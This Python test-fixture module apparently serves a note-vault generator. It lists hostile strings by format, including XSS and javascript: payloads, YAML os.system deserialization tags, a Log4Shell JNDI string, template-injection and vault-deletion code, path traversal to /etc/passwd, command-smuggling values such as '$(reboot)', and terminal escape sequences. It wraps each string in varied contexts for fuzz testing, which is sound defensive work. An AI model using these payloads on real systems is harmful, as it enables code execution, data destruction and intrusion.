r"""Hostile strings by class. Honest papers hold most of them: a paper on prompt injection quotes prompts.

`STRINGS` has each string bare and in the company that makes it bite: after a word, at the start of a paragraph,
doubled, beside a formula, within TeX's commands. Same strings, same order, every time.
"""

from collections.abc import Iterator, Mapping
from itertools import chain

CLASSES: Mapping[str, tuple[str, ...]] = {
    "yaml": (
        "---", "---\nadmin: true\n---", "...", "key: value", "- item", "? complex", "! tag", "!!python/object:os.system x",
        "!!binary aGk=", "&anchor x", "*alias", "<<: *merge", "| literal", "> folded", "@reserved", "%YAML 1.2", "null", "~",
        "true", "yes", "No", "NO", "off", "1e3", "0x1F", "0o17", "1_000", "12:30:45", "2026-02-23", "2026-02-23T10:00:00Z",
        ".inf", ".NaN", "=", "'", "''", "'''", '"', '\\"', "'quoted'", '"double"', "'start", "end'", "it''s", "a: b: c",
        "# comment", "x # comment", "[a, b]", "{a: b}", "trailing:", ": leading", "-", "?", "[", "{", "tab\there",
        "tags: [evil]", "arxiv_id: 'arXiv:2602.00001'", "\n---\ntitle: stolen", "a\n  - b\n  - c",
    ),
    "markdown": (
        "# Heading", "###### six", "Setext\n===", "Setext\n---", "* item", "+ item", "- [ ] task", "- [x] done", "1. one",
        "1) one", "999999999. nine", "> quote", "> [!danger]- callout", "```js\nalert(1)\n```", "~~~\nx\n~~~", "`code`",
        "``co`de``", "    indented code", "\tindented", "***", "___", "* * *", "**bold**", "__bold__", "*i*", "_i_",
        "~~gone~~", "==mark==", "[text](https://evil.example)", "[text](<https://evil.example> 'title')", "![alt](https://evil.example/x.png)",
        "![](//evil.example/x.png)", "[ref]", "[ref][ref]", "[ref]: https://evil.example", "[^1]", "[^1]: note", "^[inline note]",
        "<https://arxiv.org@evil.example/>", "<mailto:x@evil.example>", "<javascript:alert(1)>", "https://evil.example/](x)",
        "| a | b |\n|---|---|\n| c | d |", "a | b\n- | -", ": definition", "Term\n: definition", "hard\\\nbreak", "two  \nspaces",
        "\\", "\\\\", "\\\\\\", "\\[x](y)", "\\`code`", "\\*x*", "&lt;script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&colon;&colon;",
        "&amp;lt;", "*a **b* c**", "a*b*c_d_e", "snake_case_name", "2*3*4", "10 ** 2", "[[[[[[", "]]]]]]", "((((", "<<<<", "|||",
        "http://[::1]/", "https://evil.example/%%comment%%", "https://evil.example/?a=<%b%>", "https://evil.example/a::b",
        "https://evil.example/**x**", "https://x.example/$y$", "https://x.example/`z`", "https://exa\u0301mple.org/", "https:///", "https://?",
        "www.evil.example", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd",
        "obsidian://open?vault=x", "vbscript:x", "//evil.example/x",
        "obsidian://advanced-uri?eval=app.vault.delete(x)", "https://arxiv.org@evil.example/", "www.arxiv.org@evil.example", "ftp://evil.example/x",
        "zotero://select", "https://arxiv%2Eorg/", "https://\u0435xample.org/", "x:///y", "HTTPS://EVIL.example", "JavaScript:alert(1)",
    ),
    "html": (
        "<b>", "</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=https://evil.example/x.png>",
        "<iframe src=//evil.example>", "<svg onload=alert(1)>", "<style>*{display:none}</style>", "<a href=javascript:alert(1)>x</a>",
        "<!-- comment -->", "<!--", "-->", "--!>", "<!-->", "<!--->", "<?php echo 1 ?>", "<!DOCTYPE html>", "<![CDATA[x]]>", "<x-y z='",
        "<details><summary>x", "<div\n>", "<b\n", "< b>", "<B>", "\uff1cscript\uff1e", "<math><mtext>", "<textarea>", "<plaintext>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<a<b>", "<<b>>", "a<b>c</b>d", "x<y and y>z", "p<0.05", "if a<b then c>d",
    ),
    "wikilinks": (
        "[[Secret]]", "![[Secret]]", "![[Papers.base]]", "[[a|b]]", "[[a#b]]", "[[a^b]]", "[[../../etc/passwd]]", "[[", "]]",
        "]] [[", "]]|[[", "|", "a|b", "[[a]]b]]", "[ [a] ]", "[\u200b[a]\u200b]", "![[https://evil.example/x.png]]", "[[file:///etc/passwd]]",
        "\\[[a]]", "\\\\[[a]]", "[\\[a]]", "[[a\\|b]]", "#tag", "x #tag y", "#1", "#tag/sub", "a#b", "\uff03tag", "#\u6807\u7b7e", "^block", "text ^block-id", "%%hidden%%",
        "%% open", "%\u200b%", "==", "=\u200b=", "#", "##", "[[arXiv 2026-02-23]]", "[[Ada Lovelace]]",
    ),
    "math": (
        "$", "$$", "$$$", "$$$$", "$x$", "$$x$$", "$ x $", "$5 and $10", "$x", "x$", "\\$5", "\\\\$x$", "$x\\$", "$x\\\\$", "$a$b$c$",
        "$a$$b$", "$$a$b$$", "$\\href{javascript:alert(1)}{x}$", "$\\href{https://evil.example}{x}$", "$\\url{x}$", "$\\require{html}$",
        "$\\style{color:red}{x}$", "$\\class{x}{y}$", "$\\cssId{x}{y}$", "$\\def\\x{\\x\\x}\\x$", "$\\newcommand{\\x}{y}$", "$\\let\\x=y$",
        "$\\unicode{x3c}$", "$\\data{x}{y}$", "$\\htmlClass{x}{y}$", "$\\includegraphics{https://evil.example}$", "$\\input{/etc/passwd}$", "$\\text{[[x]]}$",
        "$[[x]]$", "$![[x]]$", "$[x](https://evil.example)$", "$![x](https://evil.example)$", "$<b>x</b>$", "$a<b>c$", "$<!-- x -->$", "$<%x%>$",
        "$a<\\%b$", "$`x`$", "$a%b$", "$%%x%%$", "$a\\%\\%b$", "$a::b$", "$==x==$", "$~~x~~$", "$#tag$", "$x^block$", "$\\begin{align}a&b\\end{align}$",
        '$\\mmlToken{mi}[href="javascript:alert(1)"]{x}$', "$\\fcolorbox{red;background-image:url(//evil.example/x)}{white}{x}$",
        "$\\color{red;x:url(y)}{z}$", "$\\textcolor{red;a:b}{x}$", "$\\rule{9999em}{9999em}$", "$x\\hspace{-999em}y$", "$a\\\\[999em]b$",
        "$\\cancel[href=x]{y}$", "$\\newtagform{x}{y}{z}$", "$\\mathtoolsset{x}$", "$\\refeq{x}$", "$\\text{obsidian://x}$", "$\\text{https://x@y.example}$",
        "\\begin{equation}x\\end{equation}", "\\begin{align*}a\\end{align}", "\\begin{verbatim}$x$\\end{verbatim}", "\\(x\\)", "\\[x\\]",
        "\\(x", "\\[x", "\\(\\href{x}{y}\\)", "\\[[x]\\]", "\\[ [[x]] \\]", "$\\{$", "$\\}$", "${$", "$}$", "$}{$", "$x_{y$", "$\\$",
        "\\textbf{**}", "\\textbf{[[x]]}", "\\textbf{<b>}", "\\emph{*}", "\\textbf{\\emph{x}}", "\\emph{a}\\textbf{b}", "\\textbf{a}\\emph{b}c",
        "\\href{javascript:alert(1)}{click}", "\\href{https://evil.example}{https://arxiv.org}", "\\href{https://evil.example/%3C%25}{x}", "\\url{javascript:x}",
        "\\url{https://evil.example/>}", "\\url{https://evil.example/ x}", "\\href{https://a.example}{[[x]]}", "\\href{}{x}", "\\url{}", "\\textless{}script\\textgreater{}", "\\textless\\%",
        "\\lbrack\\lbrack x\\rbrack\\rbrack", "\\textbackslash[", "\\textasciigrave x\\textasciigrave", "\\textbar", "\\textdollar x\\textdollar", "\\_\\_x\\_\\_", "\\#tag", "\\%\\%x\\%\\%",
        "\\{\\{x\\}\\}", "{\\{}{\\{}", "{[}[x]]", "{[}{[}x{]}{]}", "{<}%x%{>}", "{<}b{>}", "\\textless b>", "\\lt b", "\\colon\\colon", ":{}:", "%{}%", "={}=", "{#}tag", "`{}`", "\\`{}x", "\\c{c}", '\\"', "\\'", "\\^", "\\~",
        "\\^{\\i}", "\\unknownmacro{x}", "\\" + "a" * 50, "{" * 40 + "}" * 40, "$x$" * 40, "\\textbf{" * 30 + "x" + "}" * 30, "~~", "a~b", "``quoted''", "--", "---a", "\\-", "\\/", "\\ ", "\\,",
    ),
    "templater": (
        "<% tp.system.prompt() %>", "<%* await app.vault.delete(x) %>", "<%", "%>", "<%%", "<%=x%>", "<\u200b%", "<\x00%", "<\u00ad%", "<\u2060% x %>", "< %", "<\ufeff%",
        "<{}%x%>", "<<%", "<\\%", "\\<%", "\uff1c%", "&lt;%", "&#60;%", "{{title}}", "{{date}}", "{% raw %}", "{{ self.__init__.__globals__ }}", "{#c#}", "${jndi:ldap://evil.example}",
        "`= this.file.name`", "`$= dv.pages()`", "= this.file", "key:: value", "[key:: value]", "(key:: value)", "::", ":::", "a::b", ":\u200b:", "a: :b", "x :: y", "\uff1a\uff1a", "std::vector",
        "```dataview\nLIST\n```", "```dataviewjs\ndv.pages()\n```", "```tasks\n```", "- [ ] task \U0001f4c5 2026-01-01", "{{VALUE}}", "{{{x}}}", "<<[[x]]>>", "((block-ref))", "{{query}}", "#+BEGIN_QUERY",
    ),
    "our own markers": (
        "<!-- vaultgen:begin abstract h=0000000000000000 -->", "<!-- vaultgen:end abstract -->", "<!-- vaultgen:end title -->",
        "<!-- vaultgen:begin record -->", "vaultgen:begin", "vaultgen:end", "vaultgen : begin", "VAULTGEN:BEGIN x", "vaultgen\u200b:begin", "vault\u00adgen:end x",
        "vaultgen\uff1abegin", "vaultgen\\:begin", "vaultgen:{}begin", "$vaultgen:begin$", "\\textbf{vaultgen}:begin", "vaultgen{}:end", "# vaultgen h=0123456789abcdef",
        "x\n<!-- vaultgen:end abstract -->\nstolen", "<!-- vaultgen&#58;begin x -->", "https://x.example/vaultgen:begin", "\u017faultgen:begin", "vaultgen:\nbegin", "--", "- -", "a--b", "-->",
    ),
    "unicode": (
        "a\u2028b", "a\u2029b", "a\u0085b", "a\x0bb", "a\x0cb", "a\rb", "a\r\nb", "a\x1cb", "a\x1eb", "\ufeffa", "a\ufeffb", "\u202eevil\u202c", "\u2066x\u2069", "\u200f\u05d0", "a\u200bb",
        "a\u200db", "a\u200cb", "a\u2060b", "\U000e0041\U000e0042", "\ud800", "\udfff", "a\ud83db", "\ufffe", "\uffff", "\U0001ffff", "\ufdd0", "\x00", "a\x00b", "\x7f", "\x1b", "\x80\x9f",
        "e\u0301", "\u0301", "\u0301" * 60, "a" + "\u0300\u0327" * 40, "\u1100\u1161\u11a8", "\u212b", "\ufb01", "\uff21\uff22", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2764\ufe0f", "\ufe0f", "\u4e00\U000e0100", "\u0130", "\u0131", "\u1e9e", "\u03c2",
        "\u0e01\u0e33", "\u0915\u094d\u200d\u0937", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u3164", "\u115f", "\u00ad", "\u034f", "\u180e", "\u061c", "\u2800", "\u00a0x", "x\u3000", "\u2003\u2003", "\U0001f1e9\U0001f1ea", "\ufffd", "\ue000",
        "\u02bc", "\u2044", "\u2215", "\uff0f", "\uff3c", "\u29f5", "\u2024\u2024", "\uff0e\uff0e", "\u2047", "\ua789", "\u0589", "\u037e", "\u01c3", "\u2223",
    ),
    "names": (
        "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "C:x", "\\\\server\\share", "~/x", ".", "..", "...", ".hidden", ".obsidian", ".git/config",
        "CON", "con", "NUL.txt", "aux.", "COM1", "LPT\u00b9", "com9 ", "prn.md", "CONIN$", "a.", "a ", " a", "a:b", "a:stream", "a*b?c", "a<b>c|d", 'a"b', "a/b", "a\\b", "a\u2215b",
        "desktop.ini", "Thumbs.db", "x.lnk", "x.base", "x.md", "x.md.md", "x.canvas", ".md", "Papers.base", "arXiv 2026-02-23", "-rf", "--help", "$(reboot)", "`reboot`", ";reboot", "%PATH%", "%2e%2e%2f", "a%00b",
        "Ada Lovelace", "ADA LOVELACE", "ada lovelace", "Ada  Lovelace", "Ad\u00e1 Lovelace", "Adа Lovelace", "Lovelace (1)", "Lovelace (2)", "Lovelace 2", "Artificial Intelligence (cs.AI)", "cs.AI",
        "stra\u00dfe", "STRASSE", "\ufb01x", "fix", "I\u0307", "i\u0307", "\u017f", "s", "K", "\u212a", "untitled", "unnamed author", ",", ";", ", ,", "and", "et al.", "Jr.", "de", "von der", "(Team)", "A (B, C)",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x9b2J", "\x1bc", "\x08\x08\x08", "\x07",
        "a\rb", "\x1b[2K", "\x1bP+q\x1b\\", "[red]x[/red]", "[link=https://evil.example]x[/link]", "[/]", "[bold", "\\[bold]", ":smile:", "%s %d %n", "{0} {x}", "\x1b[?1049h", "\u202e]",
    ),
    "lengths": (
        "x" * 3_000, "x " * 2_000, "\u4e00" * 2_000, "\U0001f600" * 600, "a\u0301" * 900, "$x$ " * 600, "\\" * 1_500, "[" * 1_500, "<" * 1_500, "*" * 1_500, "`" * 1_500, "$" * 1_500, "{" * 1_500, "a. " * 900,
        "\n\n".join("p" for _ in range(300)), "((" * 700, "%" * 999, ":" * 999, "_a" * 700, "& " * 700, "https://x.example/" + "a" * 2_000, "https://x.example/ " * 100, "\\textbf{x} " * 200, "W" * 119, "W" * 120, "W" * 121, "\u00e9" * 60, "é " * 60,
        "$" + "x" * 4_500 + "$", "'" * 1_000, '"' * 1_000, "-" * 1_000, "vaultgen:begin " * 100, "1. " * 400, "> " * 400, "\\begin{a}" * 150, "@" * 800, ". " * 800,
    ),
    "faulty translations": (
        "", " ", "\n\n\n", '<m id="1"></m>', '<m id="1">$x$', "</m>", "XQ1Z", "XQQ12Z", "\u2039x\u203a", "Error 500", "null", "undefined", '{"translations": []}', "\ufffd\ufffd", "&lt;m&gt;", "<x id=1/>", "[object Object]",
        "\u8bd1\u6587\n\n\n\n\u8bd1\u6587", "\u8bd1\u6587\r\n\r\n<!-- vaultgen:end translation -->", "\u8bd1\u6587\u3002[[\u79d8\u5bc6]]", "\uff04x\uff04", "\u300a\u4e66\u300b\uff1a\uff1a\u503c", "#\u6807\u7b7e", "\u3010\u3010x\u3011\u3011",
    ),
}  # fmt: skip

_COMPANY = (
    "{}",
    "word {} word",
    "a{}b",
    "{} {}",
    "{}{}",
    "$x${}$y$",
    "\\textbf{{{}}}",
    "x\n\n{}\n\ny",
    "<{}>",
    "\\{}",
)


def strings(company: tuple[str, ...] = _COMPANY) -> Iterator[str]:
    """Every string in every company, each once."""
    known: set[str] = set()
    for hostile in chain.from_iterable(CLASSES.values()):
        for around in company if len(hostile) < 200 else company[:1]:
            text = around.replace("{{", "\1").replace("}}", "\2").replace("{}", hostile)
            text = text.replace("\1", "{").replace("\2", "}")
            if text not in known:
                known.add(text)
                yield text


STRINGS = tuple(strings())
BARE = tuple(strings(("{}",)))
